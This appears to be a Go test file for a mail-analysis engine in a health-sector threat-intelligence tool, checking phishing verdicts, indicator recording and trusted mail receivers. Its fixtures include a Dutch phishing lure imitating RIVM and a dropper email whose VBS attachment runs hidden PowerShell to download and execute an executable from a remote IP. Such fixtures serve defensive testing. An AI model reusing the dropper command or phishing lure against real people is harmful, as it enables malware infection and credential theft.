package engine

import (
	"context"
	"encoding/base64"
	"slices"
	"strings"
	"testing"

	"github.com/ward-health/ward/internal/config"
	"github.com/ward-health/ward/internal/mail"
	"github.com/ward-health/ward/internal/store"
)

// phishingMail imitates RIVM from a look-alike domain and links to a
// credential page; its Reply-To is a look-alike address too, and it links
// to the real rivm.nl as phishing mail often does.
const phishingMail = "From: RIVM Coronatest <info@rivm-coronatest.nl>\r\n" +
	"Reply-To: uitslag@rivm-uitslag.nl\r\n" +
	"To: medewerker@umc-example.nl\r\n" +
	"Subject: Uw coronatest uitslag: log in om te bekijken\r\n" +
	"Message-ID: <1@rivm-coronatest.nl>\r\n" +
	"Content-Type: text/html; charset=utf-8\r\n\r\n" +
	"<p>Beste medewerker, uw COVID-19 testuitslag staat klaar. Log direct in met uw wachtwoord:</p>" +
	"<a href=\"https://rivm-coronatest.nl/login?u=1\">https://www.rivm.nl/uitslag</a> " +
	"<a href=\"https://www.rivm.nl/privacy\">privacy</a> <a href=\"https://partner-ziekenhuis.example/info\">info</a>\r\n"

func dropperMail() string {
	vbs := "Set sh = CreateObject(\"WScript.Shell\")\r\nsh.Run \"powershell -w hidden -c iwr http://198.51.100.9/a.exe -OutFile $env:TEMP\\a.exe; start $env:TEMP\\a.exe\"\r\n"
	return "From: WHO <info@who-int.example>\r\nTo: a@umc-example.nl\r\nSubject: Information on Covid-19\r\n" +
		"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nSee the attachment.\r\n" +
		"--b\r\nContent-Type: application/octet-stream; name=\"CORONAVIRUS_COVID-19.vbs\"\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
		base64.StdEncoding.EncodeToString([]byte(vbs)) + "\r\n--b--\r\n"
}

func TestAnalyzeMail(t *testing.T) {
	e, st := newTestEngine(t, func(c *config.Config) {}, &fakeProber{calls: map[string]int{}})
	ctx := context.Background()

	rep, err := e.AnalyzeMail(ctx, "demo", "phish.eml", []byte(phishingMail))
	if err != nil {
		t.Fatal(err)
	}
	if rep.Verdict != mail.Phishing {
		t.Fatalf("verdict %s (%v), want phishing", rep.Verdict, rep.Reasons)
	}
	if !slices.Contains(rep.IOCs.URLs, "https://partner-ziekenhuis.example/info") {
		t.Fatalf("the partner link is not among the message's URLs: %v", rep.IOCs.URLs)
	}
	var got []string
	for _, in := range rep.Recorded {
		got = append(got, in.Type+" "+in.Value)
	}
	for _, want := range []string{"url https://rivm-coronatest.nl/login?u=1", "email uitslag@rivm-uitslag.nl", "domain rivm-uitslag.nl",
		"email info@rivm-coronatest.nl", "domain rivm-coronatest.nl"} {
		if !slices.Contains(got, want) {
			t.Errorf("recorded %v, missing %s", got, want)
		}
	}
	for _, g := range got {
		if strings.Contains(g, "www.rivm.nl") || strings.Contains(g, "umc-example") || strings.Contains(g, "partner-ziekenhuis") {
			t.Errorf("recorded a real site the mail links to: %s", g)
		}
	}
	inds, err := st.Indicators(ctx, store.IndicatorFilter{Org: "demo"})
	if err != nil || len(inds) != len(rep.Recorded) || inds[0].Source != "mail" {
		t.Errorf("stored %d indicators (%v), reported %d", len(inds), err, len(rep.Recorded))
	}

	// A dropper: its hash is recorded, and, once known, the next message
	// carrying it is matched against it.
	rep, err = e.AnalyzeMail(ctx, "demo", "dropper.eml", []byte(dropperMail()))
	if err != nil {
		t.Fatal(err)
	}
	if rep.Verdict != mail.Malicious {
		t.Fatalf("dropper verdict %s (%v)", rep.Verdict, rep.Reasons)
	}
	var hash string
	for _, in := range rep.Recorded {
		if in.Type == "sha256" {
			hash = in.Value
		}
	}
	if hash == "" || hash != rep.Attachments[0].SHA256 {
		t.Errorf("the dropper's hash was not recorded: %+v", rep.Recorded)
	}

	// A clean message records nothing; an unknown organisation is an error.
	rep, err = e.AnalyzeMail(ctx, "demo", "ok.eml", []byte("From: collega@umc-example.nl\r\nTo: a@umc-example.nl\r\nSubject: rooster\r\n\r\nHet rooster voor volgende week staat online.\r\n"))
	if err != nil || rep.Verdict != mail.Clean || len(rep.Recorded) != 0 {
		t.Errorf("a clean message: %s, recorded %v, %v", rep.Verdict, rep.Recorded, err)
	}
	if _, err := e.AnalyzeMail(ctx, "nope", "x.eml", []byte(phishingMail)); err == nil {
		t.Error("an unknown organisation was accepted")
	}
}

// With mail_verdicts empty, verdicts record nothing; the analysis still
// uses the indicators others recorded.
func TestAnalyzeMailNoRecording(t *testing.T) {
	e, st := newTestEngine(t, func(c *config.Config) { c.Feeds.MailVerdicts = []string{} }, &fakeProber{calls: map[string]int{}})
	ctx := context.Background()
	if _, err := st.UpsertIndicator(ctx, store.Indicator{Org: "import/cert", Scope: "shared", Type: "domain",
		Value: "rivm-coronatest.nl", Source: "import cert", TLP: "amber"}); err != nil {
		t.Fatal(err)
	}
	rep, err := e.AnalyzeMail(ctx, "demo", "phish.eml", []byte(phishingMail))
	if err != nil || len(rep.Recorded) != 0 {
		t.Fatalf("recorded %v, %v", rep.Recorded, err)
	}
	known := false
	for _, r := range rep.Reasons {
		known = known || strings.HasPrefix(r.Signal, "ioc_")
	}
	if !known {
		t.Errorf("the imported indicator was not matched: %v", rep.Reasons)
	}
}

// Authentication results are believed from the organisation's own mail
// servers only.
func TestAnalyzeMailTrustedReceivers(t *testing.T) {
	e, _ := newTestEngine(t, func(c *config.Config) { c.Organisations[0].TrustedReceivers = []string{"mx.umc-example.nl"} }, &fakeProber{calls: map[string]int{}})
	msg := func(authserv string) []byte {
		return []byte("Authentication-Results: " + authserv + "; spf=fail smtp.mailfrom=rivm.nl; dmarc=fail header.from=rivm.nl\r\n" +
			"From: RIVM <info@rivm.nl>\r\nTo: a@umc-example.nl\r\nSubject: uitslag\r\n\r\nUw uitslag staat klaar.\r\n")
	}
	has := func(rep MailReport) bool {
		for _, r := range rep.Reasons {
			if r.Signal == "auth_dmarc_fail" {
				return true
			}
		}
		return false
	}
	rep, err := e.AnalyzeMail(context.Background(), "demo", "t.eml", msg("mx.umc-example.nl"))
	if err != nil || !has(rep) {
		t.Errorf("from the trusted receiver: %v %v", rep.Reasons, err)
	}
	rep, err = e.AnalyzeMail(context.Background(), "demo", "u.eml", msg("mx.attacker.example"))
	if err != nil || has(rep) {
		t.Errorf("a header the sender wrote was believed: %v %v", rep.Reasons, err)
	}
}
